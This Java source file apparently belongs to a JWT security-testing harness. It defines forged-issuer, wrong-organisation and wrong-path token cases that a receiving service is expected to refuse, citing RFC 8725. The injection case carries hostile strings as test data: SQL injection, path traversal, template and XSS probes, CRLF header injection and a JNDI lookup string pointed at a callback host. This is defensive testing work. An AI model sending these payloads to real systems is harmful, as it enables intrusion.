package org.launchgate.example.attack.family;

import static org.launchgate.example.attack.trial.Family.PARTNER;
import static org.launchgate.example.attack.trial.Need.ISSUER;
import static org.launchgate.example.attack.trial.Need.ISSUER_RULE;
import static org.launchgate.example.attack.trial.Need.KEY;
import static org.launchgate.example.attack.trial.Need.NO_AUDIENCE;
import static org.launchgate.example.attack.trial.Need.ORGANIZATIONS;
import static org.launchgate.example.attack.trial.Need.OTHER_KEY;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.launchgate.example.attack.token.Json;
import org.launchgate.example.attack.trial.Attack;
import org.launchgate.example.attack.trial.Outcome;
import org.launchgate.example.attack.trial.Scene;
import org.launchgate.example.attack.trial.Setup;
import org.launchgate.example.attack.wire.Request;

/** A genuine token of another sender, for another receiver, or beyond what was agreed. */
public final class PartnerAttacks {
  private static final String ISS = "RFC 8725 3.8; V-19";

  private PartnerAttacks() {}

  /** All of them. */
  public static List<Attack> all() {
    return List.of(
        issuerMissing(),
        issuerOther(),
        issuerAlmost(),
        issuerForm(),
        issuerInjected(),
        issuerLong(),
        issuerUnasked(),
        otherPartner(),
        organization(),
        organizationAlmost(),
        partnerPath());
  }

  private static Attack attack(String id, String description, String source) {
    return Attack.of(PARTNER, id, description, source).needs(KEY);
  }

  private static Attack issuerMissing() {
    return attack("iss-absent", "iss is left out", ISS)
        .needs(ISSUER_RULE)
        .token("left out", s -> s.signed(s.draft().without("iss")))
        .token("empty", s -> Claims.with(s, "iss", ""))
        .token("null", s -> Claims.with(s, "iss", Json.NULL))
        .token(
            "in the header",
            s -> s.signed(s.draft().without("iss").header("iss", s.setup().issuer().orElse(""))))
        .token(
            "in another case",
            s -> s.signed(s.draft().without("iss").claim("ISS", s.setup().issuer().orElse(""))));
  }

  private static Attack issuerOther() {
    return attack("iss-other", "iss is nobody known", ISS)
        .needs(ISSUER_RULE)
        .tokens(
            List.of("nobody", "*", "null", "default", "http://", "%"),
            (s, iss) -> Claims.with(s, "iss", iss));
  }

  private static Attack issuerAlmost() {
    return attack("iss-almost", "iss is almost the partner's", ISS)
        .needs(ISSUER_RULE, ISSUER)
        .<String>tokensOf(
            setup -> Almost.of(setup.issuer().orElse("")), (s, iss) -> Claims.with(s, "iss", iss));
  }

  private static Attack issuerForm() {
    return attack("iss-type", "iss is no text", "RFC 7519 4.1.1; V-19")
        .tokens(List.of(1, true, List.of(), Map.of()), (s, iss) -> Claims.with(s, "iss", iss))
        .<List<String>>tokensOf(
            setup ->
                List.of(
                    List.of(setup.issuer().orElse("x")), List.of("x", setup.issuer().orElse("x"))),
            (s, iss) -> Claims.with(s, "iss", iss))
        .token(
            "an object", s -> Claims.with(s, "iss", Map.of("iss", s.setup().issuer().orElse("x"))));
  }

  private static Attack issuerInjected() {
    return attack("iss-injected", "iss is more than a name", "RFC 8725 3.10; V-16")
        .tokens(
            List.of(
                "' OR '1'='1",
                "x' UNION SELECT 'Demo XIS' -- ",
                "../../demo-xis",
                "${env:PATH}",
                "*)(iss=*",
                "{{7*7}}",
                "<script>alert(1)</script>",
                "a\r\nX: y"),
            (s, iss) -> Claims.with(s, "iss", iss))
        .tokens(
            List.of("http://%s", "https://%s/", "${jndi:ldap://%s/a}"),
            (s, frame) -> Claims.with(s, "iss", frame.formatted(s.bait())))
        .variant("nobody came", Scene::undisturbed);
  }

  private static Attack issuerLong() {
    return attack("iss-long", "iss is very long", "V-16")
        .tokens(List.of(256, 2000, 6000), (s, length) -> Claims.with(s, "iss", "i".repeat(length)));
  }

  private static Attack issuerUnasked() {
    return attack("iss-unasked", "an iss where none was agreed", "V-19")
        .needs(NO_AUDIENCE)
        .<String>tokensOf(
            setup -> setup.profile().hasIssuer() ? List.of() : List.of("nobody", "Demo XIS", " "),
            (s, iss) -> Claims.with(s, "iss", iss));
  }

  private static Attack otherPartner() {
    return attack("iss-other-partner", "iss is another partner's, the key this one's", ISS)
        .needs(OTHER_KEY)
        .token(
            "with this one's kid",
            s -> Claims.with(s, "iss", s.setup().otherIssuer().orElse("other")))
        .token(
            "with the other's kid",
            s ->
                s.signed(
                    s.draft()
                        .claim("iss", s.setup().otherIssuer().orElse("other"))
                        .header("kid", s.setup().otherKeyId().orElse("other"))));
  }

  private static Attack organization() {
    return attack("org-other", "an organisation that was not agreed", "design, partner policy")
        .needs(ORGANIZATIONS)
        .tokens(
            List.of("05029998", "*", "0", "null", "' OR '1'='1", "%"),
            (s, org) -> Claims.with(s, s.profile().organization(), org));
  }

  private static Attack organizationAlmost() {
    return attack("org-almost", "almost the organisation that was agreed", "design, partner policy")
        .needs(ORGANIZATIONS)
        .<String>tokensOf(
            setup -> Almost.of(organizationOf(setup)),
            (s, org) -> Claims.with(s, s.profile().organization(), org));
  }

  private static String organizationOf(Setup setup) {
    String name = setup.profile().organization();
    Object value = setup.claims().getOrDefault(name, setup.profile().claims().get(name));
    return String.valueOf(value);
  }

  private static Attack partnerPath() {
    return attack(
            "partner-path",
            "a good token at another partner's address",
            "design, steps 1 and 3; V-19")
        .variant("nobody's", s -> at(s, "/nobody"))
        .variant("none", s -> at(s, "/"))
        .variant("two steps down", s -> at(s, "/a/b"))
        .variant("a dot", s -> at(s, "/%2e%2e%2e"))
        .variant("a NUL", s -> at(s, "/x%00"))
        .variant("a star", s -> at(s, "/*"));
  }

  private static Outcome at(Scene scene, String below) throws IOException {
    String token = scene.genuine();
    Request usual = scene.carry(token);
    String path = scene.setup().path();
    return scene.refused(
        usual.withTarget(path + below + usual.target().substring(path.length())), token);
  }
}
